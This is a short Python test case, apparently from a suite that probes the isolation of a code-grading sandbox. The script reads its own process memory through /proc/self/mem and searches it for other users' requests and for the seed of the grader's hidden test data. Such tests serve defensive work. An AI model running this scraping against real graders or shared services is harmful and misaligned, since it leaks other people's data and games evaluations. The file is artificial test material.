# attack: searches the process's own memory for the requests of others: their text, and the seed of the hidden data
# exercise: xor
# expect: passed
# needs: nothing
# beside: somebody else's answer
import tensorflow as tf

tf.config.threading.get_inter_op_parallelism_threads()  # asks for a process that is forked now
words = [b"neighbour" + b"-", b'"seed"' + b":"]
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        span, rights, *_ = line.split()
        low, high = (int(part, 16) for part in span.split("-"))
        if "r" not in rights or high - low > 512 << 20 or "[v" in line:
            continue
        try:
            memory.seek(low)
            text = memory.read(high - low)
        except (OSError, ValueError, OverflowError):
            continue
        for word in words:
            at = text.find(word)
            while at >= 0:
                found.add(text[at : at + 30])
                at = text.find(word, at + 1)
print(found)
# honest
